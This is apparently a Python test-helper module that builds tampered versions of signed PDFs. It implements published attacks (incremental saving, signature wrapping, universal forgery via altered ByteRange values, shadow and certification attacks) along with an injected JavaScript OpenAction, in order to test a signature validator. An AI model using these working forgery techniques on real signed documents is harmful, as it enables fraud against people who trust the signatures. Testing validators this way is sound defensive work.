"""Ways to change a signed PDF so that it still looks signed. Each takes signed bytes and returns changed bytes.

The shapes are those of Mladenov and others, "1 Trillion Dollar Refund" (CCS 2019: incremental saving, signature
wrapping, universal forgery), "Shadow Attacks" (NDSS 2021: hide, replace, hide and replace) and "Attacks on PDF
certification" (S&P 2021), and whatever else came to mind. An update can be followed by a signature of the attacker's
own, so that the last signature does cover the whole file.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf
from asn1crypto import keys
from asn1crypto import x509 as asn1_x509
from cryptography.hazmat.primitives.serialization import Encoding
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import ArrayObject, NameObject, NumberObject, TextStringObject
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko_certvalidator.registry import SimpleCertificateStore

from tests.signing.pki import Holder

Attack = Callable[[bytes], bytes]
Change = Callable[[IncrementalPdfFileWriter], None]


def signed_by_other_program(
    pdf: bytes,
    holder: Holder,
    field: str,
    *,
    certify: bool = False,
    closed: bool = False,
    also: Change | None = None,
) -> bytes:
    """Return `pdf` signed with pyHanko's own defaults, as another program would: it rewrites the metadata too.

    `also` is a change to make in the same update, which that signature then covers.
    """
    store = SimpleCertificateStore()
    store.register_multiple(asn1_x509.Certificate.load(c) for c in _chain(holder))
    signer = signers.SimpleSigner(
        asn1_x509.Certificate.load(holder.der), keys.PrivateKeyInfo.load(holder.key_der), store
    )
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        md_algorithm="sha256",
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=certify,
        docmdp_permissions=fields.MDPPerm.NO_CHANGES if closed else fields.MDPPerm.FILL_FORMS,
    )
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    if also:
        also(writer)
    return bytes(signers.sign_pdf(writer, meta, signer=signer).getvalue())


def _chain(holder: Holder) -> list[bytes]:
    """Return the certificates above a holder, in DER."""
    return [certificate.public_bytes(Encoding.DER) for certificate in holder.chain]


def updated(pdf: bytes, change: Change) -> bytes:
    """Return `pdf` with an incremental update that makes `change`."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# Changes that an update can make to a report.


def turn_the_page(writer: IncrementalPdfFileWriter) -> None:
    """Rotate the first page."""
    page = _page(writer)
    page["/Rotate"] = NumberObject(90)
    writer.update_container(page)


def replace_the_text(writer: IncrementalPdfFileWriter) -> None:
    """Give the page another content stream."""
    page = _page(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b"BT ET"))
    writer.update_container(page)


def overwrite_the_text(writer: IncrementalPdfFileWriter) -> None:
    """Overwrite the content stream itself."""
    reference = _page(writer).raw_get("/Contents").reference
    writer.objects[(reference.generation, reference.idnum)] = generic.StreamObject(stream_data=b"BT ET")


def overwrite_the_font(writer: IncrementalPdfFileWriter) -> None:
    """Exchange the embedded font, so that 66 is drawn as 96 (shadow attack: replace)."""
    font = _first_font(writer)
    font["/ToUnicode"] = writer.add_object(generic.StreamObject(stream_data=b"other"))
    writer.update_container(font)


def add_a_note(writer: IncrementalPdfFileWriter) -> None:
    """Lay a free text annotation over the page (certification attack: evil annotation)."""
    note = generic.DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FreeText"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (60, 700, 300, 760)]),
            NameObject("/Contents"): TextStringObject("96 procent"),
        }
    )
    _page(writer)["/Annots"].append(writer.add_object(note))
    writer.update_container(_page(writer)["/Annots"])


def run_a_script(writer: IncrementalPdfFileWriter) -> None:
    """Let the document run a script when it opens."""
    writer.root["/OpenAction"] = generic.DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.update_root()


def change_the_title(writer: IncrementalPdfFileWriter) -> None:
    """Change the title in the document information."""
    info = writer.trailer["/Info"]
    info["/Title"] = TextStringObject("96 procent")
    writer.update_container(info)


def change_the_metadata(writer: IncrementalPdfFileWriter) -> None:
    """Change the title in the XMP metadata, well-formed."""
    stream = writer.root["/Metadata"]
    said = stream.data.replace(b">Proef<", b">96 procent<")
    other = generic.StreamObject(stream_data=said)
    other["/Type"], other["/Subtype"] = NameObject("/Metadata"), NameObject("/XML")
    writer.root["/Metadata"] = writer.add_object(other)
    writer.update_root()


def overwrite_the_metadata(writer: IncrementalPdfFileWriter) -> None:
    """Change the title in the XMP metadata by overwriting the stream itself."""
    reference = writer.root.raw_get("/Metadata").reference
    said = reference.get_object().data.replace(b">Proef<", b">96 procent<")
    other = generic.StreamObject(stream_data=said)
    other["/Type"], other["/Subtype"] = NameObject("/Metadata"), NameObject("/XML")
    writer.objects[(reference.generation, reference.idnum)] = other


def change_what_is_read_aloud(writer: IncrementalPdfFileWriter) -> None:
    """Give the paragraph another text for screen readers."""
    element = writer.root["/StructTreeRoot"]["/K"][0]["/K"][0]
    element["/ActualText"] = TextStringObject("De loonwaarde is 96 procent.")
    writer.update_container(element)


def untag(writer: IncrementalPdfFileWriter) -> None:
    """Say that the document is not tagged."""
    writer.root["/MarkInfo"] = generic.DictionaryObject({NameObject("/Marked"): generic.BooleanObject(False)})
    writer.update_root()


def move_an_empty_field(writer: IncrementalPdfFileWriter) -> None:
    """Move the employee's field over the text."""
    field = _field(writer, "werknemer")
    field["/Rect"] = ArrayObject([NumberObject(n) for n in (60, 700, 300, 760)])
    writer.update_container(field)


def redraw_a_signature(writer: IncrementalPdfFileWriter) -> None:
    """Give the assessor's signature another appearance."""
    field = _field(writer, "beoordelaar")
    form = generic.StreamObject(stream_data=b"0 0 100 100 re f")
    form["/Subtype"], form["/BBox"] = NameObject("/Form"), ArrayObject([NumberObject(n) for n in (0, 0, 160, 80)])
    field["/AP"] = generic.DictionaryObject({NameObject("/N"): writer.add_object(form)})
    writer.update_container(field)


def hide_a_signature(writer: IncrementalPdfFileWriter) -> None:
    """Set the flag that hides the assessor's signature."""
    field = _field(writer, "beoordelaar")
    field["/F"] = NumberObject(2)
    writer.update_container(field)


def take_out_a_signature(writer: IncrementalPdfFileWriter) -> None:
    """Empty the assessor's field."""
    field = _field(writer, "beoordelaar")
    del field["/V"]
    writer.update_container(field)


def take_out_the_form(writer: IncrementalPdfFileWriter) -> None:
    """Remove the form with all signatures."""
    del writer.root["/AcroForm"]
    writer.update_root()


def forget_the_certification(writer: IncrementalPdfFileWriter) -> None:
    """Remove the permissions that the certifying signature laid down."""
    del writer.root["/Perms"]
    writer.update_root()


def hide_an_object(writer: IncrementalPdfFileWriter) -> None:
    """Add an object that nothing refers to, to be used later (shadow attack: hide and replace)."""
    writer.add_object(generic.StreamObject(stream_data=b"BT (96 procent) Tj ET"))


def add_a_text_field(writer: IncrementalPdfFileWriter) -> None:
    """Add a form field that shows another number."""
    form = writer.root["/AcroForm"]
    field = generic.DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("n"),
            NameObject("/V"): TextStringObject("96"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (60, 700, 300, 760)]),
        }
    )  # fmt: skip
    reference = writer.add_object(field)
    form["/Fields"].append(reference)
    _page(writer)["/Annots"].append(reference)
    writer.update_container(form["/Fields"])
    writer.update_container(_page(writer)["/Annots"])


CHANGES: tuple[Change, ...] = (
    turn_the_page, replace_the_text, overwrite_the_text, overwrite_the_font, add_a_note, run_a_script,
    change_the_title, change_the_metadata, overwrite_the_metadata, change_what_is_read_aloud, untag,
    move_an_empty_field, redraw_a_signature, hide_a_signature, take_out_a_signature, take_out_the_form,
    forget_the_certification, hide_an_object, add_a_text_field,
)  # fmt: skip


# Attacks on the bytes.


def _in_last_gap(pdf: bytes) -> tuple[int, int]:
    """Return where the container of the last signature begins and ends, without its brackets."""
    numbers = re.findall(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]", pdf)[-1]
    return int(numbers[1]) + 1, int(numbers[2]) - 1


def _spliced(pdf: bytes, start: int, end: int, new: bytes) -> bytes:
    """Return `pdf` with the bytes from `start` to `end` replaced."""
    return pdf[:start] + new + pdf[end:]


def junk_before(pdf: bytes) -> bytes:
    """Put bytes before the header."""
    return b"x" + pdf


def text_after(pdf: bytes) -> bytes:
    """Put a comment after the end."""
    return pdf + b"% niets aan de hand\n"


def line_end_after(pdf: bytes) -> bytes:
    """Put one more line end after the end."""
    return pdf + b"\n"


def second_end(pdf: bytes) -> bytes:
    """Say twice where the table is and that this is the end."""
    start = pdf.rindex(b"startxref")
    return pdf + pdf[start:]


def object_without_table(pdf: bytes) -> bytes:
    """Append an object, no table (incremental saving, variant 3)."""
    return pdf + b"4 0 obj\n<< /Length 5 >>\nstream\nBT ET\nendstream\nendobj\n%%EOF\n"


def object_with_trailer_only(pdf: bytes) -> bytes:
    """Append an object and a trailer, no table (incremental saving, variant 2)."""
    return pdf + b"4 0 obj\n<< >>\nendobj\ntrailer\n<< /Size 99 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"


def copied_signature(pdf: bytes) -> bytes:
    """Append a change, and a copy of the last signature object after it (incremental saving, variant 4)."""
    start = pdf.rindex(b" obj", 0, pdf.rindex(b"/ByteRange"))
    end = pdf.index(b"endobj", start) + 7
    return updated(pdf, turn_the_page) + pdf[start - 4 : end]


def saved_anew(pdf: bytes) -> bytes:
    """Write the whole file anew with the same content."""
    out = BytesIO()
    pikepdf.open(BytesIO(pdf)).save(out)
    return out.getvalue()


def small_letters(pdf: bytes) -> bytes:
    """Write one digit of the container as a small letter: it means the same."""
    start, end = _in_last_gap(pdf)
    at = next(at for at in range(start, end) if pdf[at : at + 1] in b"ABCDEF")
    return _spliced(pdf, at, at + 1, pdf[at : at + 1].lower())


def message_in_the_padding(pdf: bytes) -> bytes:
    """Write something in the zeros behind the container, which no signature covers."""
    _, end = _in_last_gap(pdf)
    return _spliced(pdf, end - 2, end, b"41")


def space_in_the_padding(pdf: bytes) -> bytes:
    """Write white space in the zeros: it means the same."""
    _, end = _in_last_gap(pdf)
    return _spliced(pdf, end - 2, end, b"  ")


def half_digit(pdf: bytes) -> bytes:
    """Leave out the last digit of the padding: PDF readers fill in a zero."""
    _, end = _in_last_gap(pdf)
    return _spliced(pdf, end - 1, end, b" ")


def longer_length(pdf: bytes) -> bytes:
    """Write the length of the outermost structure one byte longer than needed."""
    start, end = _in_last_gap(pdf)
    container = bytes.fromhex(pdf[start:end].decode())
    assert container[1] == 0x82
    return _spliced(pdf, start, end, (container[:1] + b"\x83\0" + container[2:-1]).hex().upper().encode())


def no_range(pdf: bytes) -> bytes:
    """Leave the range out (universal forgery)."""
    return pdf.replace(b"/ByteRange", b"/ByteRangX")


def range_of_nothing(pdf: bytes) -> bytes:
    """Say that the signature covers nothing (universal forgery)."""
    return _other_range(pdf, b"[0 0 0 0]")


def negative_range(pdf: bytes) -> bytes:
    """Say that the signature begins before the file (universal forgery)."""
    return _other_range(pdf, b"[-1 10 20 -9]")


def range_that_is_null(pdf: bytes) -> bytes:
    """Say nothing about what is covered (universal forgery)."""
    return _other_range(pdf, b"null")


def no_container(pdf: bytes) -> bytes:
    """Empty the container (universal forgery)."""
    start, end = _in_last_gap(pdf)
    return _spliced(pdf, start, end, b"0" * (end - start))


def wrapped(pdf: bytes) -> bytes:
    """Move the second signed part to the end and put other content in its old place (signature wrapping)."""
    written = re.findall(rb"/ByteRange (\[\d+ \d+ \d+ \d+\])", pdf)[-1]
    _, first, second, rest = (int(number) for number in written[1:-1].split())
    tail, evil = pdf[second:], b"\n4 0 obj\n<< >>\nendobj\n"
    moved = pdf[:second] + evil + tail
    other = b"[0 %d %d %d]" % (first, second + len(evil), rest)
    return moved.replace(written, other.ljust(len(written)))


def range_over_more(pdf: bytes) -> bytes:
    """Make the gap one byte wider than the container."""
    written = re.findall(rb"/ByteRange (\[\d+ \d+ \d+ \d+\])", pdf)[-1]
    _, first, second, rest = (int(number) for number in written[1:-1].split())
    return pdf.replace(written, (b"[0 %d %d %d]" % (first - 1, second, rest)).ljust(len(written)))


def swapped_containers(pdf: bytes) -> bytes:
    """Exchange the containers of two signatures (or, when there is one, turn its container round)."""
    ranges = re.findall(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]", pdf)
    gaps = [(int(r[1]), int(r[2])) for r in ranges]
    first, last = pdf[slice(*gaps[0])], pdf[slice(*gaps[-1])]
    if len(gaps) == 1 or len(first) != len(last):
        return _spliced(pdf, *gaps[-1], b"<" + last[1:-1][::-1] + b">")
    return _spliced(_spliced(pdf, *gaps[-1], first), *gaps[0], last)


def table_of_before(pdf: bytes) -> bytes:
    """Let the last table be that of the unsigned file (a roll back that leaves the bytes)."""
    tables = [int(number) for number in re.findall(rb"startxref\s+(\d+)", pdf)]
    return pdf + b"startxref\n%d\n%%%%EOF\n" % tables[0]


def _other_range(pdf: bytes, new: bytes) -> bytes:
    """Return `pdf` with another value for the last range, as long as the old one."""
    written = re.findall(rb"/ByteRange (\[\d+ \d+ \d+ \d+\])", pdf)[-1]
    return pdf.replace(written, new.ljust(len(written)))


BYTES: tuple[Attack, ...] = (
    junk_before, text_after, line_end_after, second_end, object_without_table, object_with_trailer_only,
    copied_signature, saved_anew, small_letters, message_in_the_padding, space_in_the_padding, half_digit,
    longer_length, no_range, range_of_nothing, negative_range, range_that_is_null, no_container, wrapped,
    range_over_more, swapped_containers, table_of_before,
)  # fmt: skip


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    """Return the first page."""
    return writer.root["/Pages"]["/Kids"][0]


def _first_font(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    """Return the first font of the first page."""
    fonts = _page(writer)["/Resources"]["/Font"]
    return fonts[next(iter(fonts))]


def _field(writer: IncrementalPdfFileWriter, name: str) -> generic.DictionaryObject:
    """Return the form field of this name."""
    fields_there = [reference.get_object() for reference in writer.root["/AcroForm"]["/Fields"]]
    return next(field for field in fields_there if field["/T"] == name)
